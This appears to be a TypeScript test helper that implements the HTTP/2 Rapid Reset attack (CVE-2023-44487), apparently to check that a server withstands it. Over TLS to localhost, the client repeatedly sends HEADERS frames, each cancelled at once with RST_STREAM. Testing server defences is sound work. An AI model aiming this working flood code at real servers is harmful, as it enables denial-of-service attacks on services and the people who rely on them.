/** A client of HTTP/2 that asks and takes back, again and again, faster than anybody could answer (CVE-2023-44487). */
import { once } from 'node:events';
import { connect } from 'node:tls';
import { http2Frame } from '#test/support/http2-frame.ts';

const headers = 0x1;
const reset = 0x3;
const settings = 0x4;
const endStreamAndHeaders = 0x5;
const cancel = Buffer.from([0, 0, 0, 8]);

/** GET / over https, with indexed fields (RFC 7541 appendix A) and a literal authority. */
function getRoot(host: string): Buffer {
  return Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, host.length]), Buffer.from(host)]);
}

export interface RapidReset extends Disposable {
  readonly isClosed: boolean;
  readonly streams: number;
}

/** Sends `perSecond` pairs of HEADERS and RST_STREAM until the connection ends. */
export async function startRapidReset(port: number, host: string, perSecond: number): Promise<RapidReset> {
  const socket = connect({
    port,
    host: '127.0.0.1',
    servername: host,
    rejectUnauthorized: false,
    ALPNProtocols: ['h2'],
  });
  socket.on('error', () => socket.destroy());
  await once(socket, 'secureConnect');
  socket.resume();
  socket.on('end', () => socket.destroy());
  socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  socket.write(http2Frame(settings, 0, 0, Buffer.alloc(0)));
  const request = getRoot(host);
  let streams = 0;
  const timer = setInterval(() => {
    if (socket.destroyed || socket.writableNeedDrain) return;
    const frames: Buffer[] = [];
    for (let i = 0; i < perSecond / 100; i++) {
      const stream = 1 + 2 * streams++;
      frames.push(
        http2Frame(headers, endStreamAndHeaders, stream, request),
        http2Frame(reset, 0, stream, cancel),
      );
    }
    socket.write(Buffer.concat(frames));
  }, 10);
  socket.once('close', () => clearInterval(timer));
  return {
    get isClosed() {
      return socket.destroyed;
    },
    get streams() {
      return streams;
    },
    [Symbol.dispose]: () => void socket.destroy(),
  };
}
